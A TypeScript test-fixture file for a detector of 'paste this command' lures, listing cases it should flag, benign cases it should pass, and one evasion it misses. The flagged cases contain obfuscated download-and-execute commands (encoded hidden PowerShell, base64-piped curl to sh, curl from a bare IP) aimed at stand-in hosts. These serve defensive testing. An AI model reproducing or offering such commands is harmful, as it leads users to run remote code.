import type { Examples } from "@doorward/core";

/** Texts that hand over a command which hides itself, and honest guides. */
export const examples: Examples = {
  hits: [
    {
      name: "a fix for the camera in encoded PowerShell",
      files: {
        "README.md":
          "# Test\n\nIf the camera does not work, press Win+R and paste this:\n\n    powershell -w hidden -ep bypass -e aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AYwBhAG0AZQByAGEALgBlAHgAYQBtAHAAbABlAC8AZgBpAHgAIAB8ACAAaQBlAHgA\n",
      },
    },
    {
      name: "a fix for the microphone in base64",
      files: {
        "fix.txt":
          "Open Terminal and paste this command:\n\n    echo Y3VybCAtcyBodHRwczovL2EuZXhhbXBsZSB8IHNo | base64 -d | sh\n",
      },
    },
    {
      name: "a set-up from a bare address",
      files: {
        "README.md":
          "# Test\n\nOpen Terminal and paste this command:\n\n```sh\ncurl -s http://198.51.100.7/setup | bash\n```\n",
      },
    },
  ],
  misses: [
    {
      name: "an official installer",
      why: "The command says where it fetches from, and runs it in sight.",
      files: {
        "README.md":
          "# Shop\n\nOpen Terminal and paste this command:\n\n```sh\ncurl -fsSL https://install.example/tool.sh | bash\n```\n",
      },
    },
    {
      name: "a guide that decodes a key and shows it",
      why: "Nothing that is decoded runs.",
      files: { "README.md": "# Shop\n\nPaste this command to see the key:\n\n```sh\necho c2hvcA== | base64 -d\n```\n" },
    },
    {
      name: "a write-up about such a fix",
      why: "It tells what happened and asks for nothing.",
      files: {
        "docs/report.md": "# Report\n\nThe page copied `powershell -w hidden` to the clipboard of the victims.\n",
      },
    },
  ],
  evasions: [
    {
      name: "a command that the page copies for the reader",
      caughtBy: "nothing",
      files: { "README.md": "# Test\n\nOpen the page https://camera.example/fix and do what it says.\n" },
    },
  ],
};
